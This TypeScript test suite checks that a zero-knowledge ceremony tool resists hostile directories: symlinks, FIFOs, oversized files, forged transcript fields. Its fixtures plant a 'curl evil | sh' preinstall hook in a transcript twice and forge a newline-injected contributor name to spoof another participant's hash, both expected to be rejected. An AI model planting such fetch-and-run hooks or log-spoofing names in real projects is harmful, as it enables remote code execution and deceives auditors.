// A ceremony directory is hostile input, and its transcript is checked, not
// trusted (issue 23): a link where a step writes leaves its target unchanged,
// a FIFO or a device is refused before anything is read, extra members in
// transcript.json are dropped, and each lie a transcript can tell makes
// verify fail naming it; contributions are read from the zkey, so a
// contributor's name cannot print another participant's hash.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { contribute, initCeremony, readCeremonyDir, verifyCeremony } from "../../src/ceremony/ceremony";
import { zkeyContributions } from "../../src/ceremony/contributions";
import { zKey } from "../../src/ceremony/snarkjs";
import { transcriptText } from "../../src/ceremony/transcript";
import { sha256Hex } from "../../src/receipts/circuit";

setDefaultTimeout(90_000);

const CLI = ["bun", "src/cli/index.ts"];
let tmp: string;
/** A ceremony after init and one contribution, still open. */
let base: string;

async function cli(...args: string[]) {
  const proc = Bun.spawn([...CLI, ...args], { env: { ...process.env, LOG_LEVEL: "silent" }, stdout: "pipe", stderr: "pipe" });
  const [stdout, stderr, code] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
  return { stdout, stderr, code };
}
const copy = (name: string) => {
  const dir = join(tmp, name);
  cpSync(base, dir, { recursive: true });
  return dir;
};
const transcriptOf = (dir: string) => JSON.parse(readFileSync(join(dir, "transcript.json"), "utf8"));
const writeTranscript = (dir: string, t: unknown) => writeFileSync(join(dir, "transcript.json"), JSON.stringify(t, null, 2));

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), "zkagent-hostile-ceremony-"));
  base = join(tmp, "base");
  await initCeremony(base);
  await contribute(base, "alice");
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe("the directory", () => {
  test("transcript.json.tmp as a symlink: contribute exits 1 naming it, and the link's target is unchanged", async () => {
    const dir = copy("symlink");
    const target = join(tmp, "package.json");
    writeFileSync(target, '{"name":"victim"}\n');
    symlinkSync(target, join(dir, "transcript.json.tmp"));
    const t = transcriptOf(dir);
    t.scripts = { preinstall: "curl evil | sh" };
    writeTranscript(dir, t);
    const result = await cli("ceremony", "contribute", dir, "--name", "bob");
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("transcript.json.tmp is a symbolic link");
    expect(readFileSync(target, "utf8")).toBe('{"name":"victim"}\n');
  });

  test("extra members in transcript.json are dropped: the next step writes back its known fields only", async () => {
    const dir = copy("extra-members");
    const t = transcriptOf(dir);
    t.scripts = { preinstall: "curl evil | sh" };
    t.steps[1].note = "hello";
    writeTranscript(dir, t);
    await contribute(dir, "bob");
    const after = transcriptOf(dir);
    expect(after.scripts).toBeUndefined();
    expect(after.steps[1].note).toBeUndefined();
    expect(Object.keys(after)).toEqual(["format", "circuit", "r1cs_sha256", "wasm_sha256", "ptau", "steps"]);
    expect(after.steps.map((s: { name?: string }) => s.name)).toEqual([undefined, "alice", "bob"]);
  });

  test("a FIFO is refused within a second (verify exits 1), and a device behind a link is never read", async () => {
    const dir = copy("fifo");
    rmSync(join(dir, "agent_identity.zkey"));
    expect(Bun.spawnSync(["mkfifo", join(dir, "agent_identity.zkey")]).exitCode).toBe(0);
    const started = performance.now();
    await expect(readCeremonyDir(dir)).rejects.toThrow(/agent_identity.zkey is a FIFO/);
    expect(performance.now() - started).toBeLessThan(1000);
    const result = await cli("ceremony", "verify", dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("is a FIFO");

    const device = copy("device");
    rmSync(join(device, "agent_identity.r1cs"));
    symlinkSync("/dev/zero", join(device, "agent_identity.r1cs"));
    await expect(readCeremonyDir(device)).rejects.toThrow(/agent_identity.r1cs is a symbolic link/);
    const add = await cli("circuits", "add", device);
    expect(add.code).toBe(1);
    expect(add.stderr).toContain("is a symbolic link");
  });

  test("a file over its limit is refused before it is read: a 2 MiB transcript", async () => {
    const dir = copy("big");
    const t = transcriptOf(dir);
    t.padding = "x".repeat(2 * 1024 * 1024);
    writeTranscript(dir, t);
    await expect(readCeremonyDir(dir)).rejects.toThrow(/transcript.json is \d+ bytes, more than the 1048576 accepted/);
    const add = await cli("circuits", "add", dir);
    expect(add.code).toBe(1);
    expect(add.stderr).toContain("more than the 1048576 accepted");
  });
});

describe("the transcript is checked, not trusted", () => {
  // Each lie, and the check that must name it. The zkey and every other file are the honest ones.
  const lies: [string, (t: Record<string, any>) => void, string, RegExp][] = [
    ["another ptau", (t) => (t.ptau = { ...t.ptau, name: "other.ptau", blake2b512: "0".repeat(128) }), "ptau", /names ptau "other.ptau".*not the pinned/],
    ["another circuit", (t) => (t.circuit = "not_this_circuit"), "circuit", /"not_this_circuit", not agent_identity/],
    ["a bogus init hash", (t) => (t.steps[0].zkey_sha256 = "0".repeat(64)), "init", /the transcript says 0{64}/],
    ["a bogus date", (t) => (t.steps[1].at = "yesterday"), "steps", /step 2's time "yesterday" is not an ISO 8601 UTC time/],
    ["dates out of order", (t) => (t.steps[0].at = "2999-01-01T00:00:00.000Z"), "steps", /in the future|before the step it follows/],
    ["a contribution relabelled review", (t) => (t.steps[1].step = "review"), "transcript", /step 2 has the unknown label "review"/],
    ["another contributor's name", (t) => (t.steps[1].name = "mallory"), "contributions", /contribution #1 in the transcript is not the zkey's/],
  ];
  for (const [lie, tell, check, message] of lies) {
    test(`${lie}: verify fails its ${check} check, naming it`, async () => {
      const files = await readCeremonyDir(base);
      const t = JSON.parse(new TextDecoder().decode(files.transcript));
      tell(t);
      const report = await verifyCeremony({ ...files, transcript: new TextEncoder().encode(JSON.stringify(t)) });
      expect(report.ok).toBe(false);
      const failed = report.checks.filter((c) => !c.ok);
      expect(failed.map((c) => c.check)).toContain(check);
      expect(failed.find((c) => c.check === check)!.detail).toMatch(message);
    });
  }

  test("the CLI exits 1 for a lie and names it; the honest directory verifies", async () => {
    expect((await verifyCeremony(await readCeremonyDir(base))).ok).toBe(true);
    const dir = copy("lie-cli");
    const t = transcriptOf(dir);
    t.steps[1].step = "review";
    writeTranscript(dir, t);
    const result = await cli("ceremony", "verify", dir);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('unknown label "review"');
    // circuits add refuses it too, before it opens any store.
    const add = await cli("circuits", "add", dir);
    expect(add.code).toBe(1);
    expect(add.stderr).toContain('unknown label "review"');
  });

  test("a name written into the zkey cannot make verify print another participant's hash", async () => {
    const dir = copy("forged-name");
    const files = await readCeremonyDir(dir);
    const alice = (await zkeyContributions(files.zkey))[0]!.hash;
    // Mallory contributes with a name that, in a log, would read as "alice:" and 57 digits of alice's hash.
    const forged = `alice:\n${alice.slice(0, 57)}`;
    const out = join(dir, "next.zkey");
    const result = await zKey.contribute({ type: "mem", data: files.zkey }, out, forged, "mallory entropy");
    const zkey = new Uint8Array(readFileSync(out));
    rmSync(out);
    writeFileSync(join(dir, "agent_identity.zkey"), zkey);
    const t = transcriptOf(dir);
    t.steps.push({ step: "contribution", at: new Date().toISOString(), name: forged, hash: Buffer.from(result).toString("hex"), zkey_sha256: sha256Hex(zkey) });
    writeFileSync(join(dir, "transcript.json"), transcriptText(t));
    const vk = await zKey.exportVerificationKey({ type: "mem", data: zkey });
    writeFileSync(join(dir, "verification_key.json"), `${JSON.stringify(vk, null, 1)}\n`);

    const read = await zkeyContributions(zkey);
    expect(read.map((c) => c.name)).toEqual(["alice", forged]);
    expect(read[1]!.hash).toBe(Buffer.from(result).toString("hex"));
    const printed = await cli("ceremony", "verify", dir);
    // Every printed line that starts with hex digits is no prefix of alice's hash: the name stays on its own escaped line.
    for (const line of printed.stdout.split("\n")) expect(line.startsWith(alice.slice(0, 57))).toBe(false);
    expect(printed.stdout).toContain(`: ${Buffer.from(result).toString("hex")}`);
    expect(printed.stdout).toContain("The ceremony holds.");
  });
});
